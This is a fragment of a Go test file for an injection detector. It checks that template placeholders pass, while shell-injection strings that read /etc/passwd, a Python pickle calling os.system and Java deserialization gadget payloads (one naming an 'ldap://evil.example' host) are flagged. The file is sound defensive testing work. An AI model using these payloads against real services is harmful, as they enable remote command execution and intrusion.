	for _, v := range []string{"group:${nodeGroupId}", "policyServer:${policyServerId}", "${project.version}", "${var.region}-${var.env}", "deploy-${env}"} {
		if fs := d.Inspect(placeValue(t, "json", v)); len(fs) > 0 {
			t.Errorf("%q flagged: %s %q (%s)", v, fs[0].Class, fs[0].Fragment, fs[0].Reason)
		}
	}
	for _, v := range []string{"cat${IFS}/etc/passwd", ";${HOME}", "a=${PATH:0:1}", "who${x}ami", "i${x}d", "c${u}at /etc/passwd"} {
		if fs := d.Inspect(placeValue(t, "json", v)); len(fs) == 0 {
			t.Errorf("%q not flagged", v)
		}
	}
}

// TestDeserializationGadgets: a pickle (protocol 0) that calls a process
// function, read from a form body or a JSON member, is code execution;
// pickle-shaped words in text are not.
func TestDeserializationGadgets(t *testing.T) {
	d := coldInjection()
	for _, where := range []string{"json", "form"} {
		fs := d.Inspect(placeValue(t, where, "cos\nsystem\n(S'id'\ntR."))
		if len(fs) == 0 || fs[0].Class != ClassCmd || !strings.Contains(fs[0].Reason, "pickle") {
			t.Errorf("%s: pickle calling os.system: %+v", where, fs)
		}
	}
	for _, v := range []string{"cos\nsine\n", "Tacos\nsystem reboot\n", "Tacos\nsystem\n"} {
		if m, ok := deserializationGadget(v); ok {
			t.Errorf("%q: %+v", v, m)
		}
	}
	// in a JSON body, as Fastjson, Jackson and Json.NET payloads come: the
	// class name is a member's whole value (a plain token)
	for _, body := range []string{
		`{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://evil.example/a","autoCommit":true}`,
		`["ch.qos.logback.core.db.DriverManagerConnectionSource",{"url":"jdbc:h2:mem:"}]`,
		`{"data":"rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZZTaMLT7P4KxAwACSQAEc2l6ZQ"}`,
	} {
		ev := sigEvent(t, "POST", "https://api.example.test/v1/import", map[string]string{"content-type": "application/json"}, body, 200)
		found := false
		for _, f := range d.Inspect(ev) {
			found = found || f.Class == ClassCmd && strings.Contains(f.Reason, "unsafe deserialization")
		}
		if !found {
			t.Errorf("JSON body %s: no deserialization finding", body)
		}
	}
	if n := javaClassName("javax.script.ScriptEngineManager [x]"); n != len("javax.script.ScriptEngineManager") {
		t.Errorf("javaClassName = %d", n)
	}
	for _, s := range []string{"str hello", "Foo.Bar", "com.example", "1.2.3"} {
		if n := javaClassName(s); n != 0 {
			t.Errorf("javaClassName(%q) = %d", s, n)
		}
	}
}
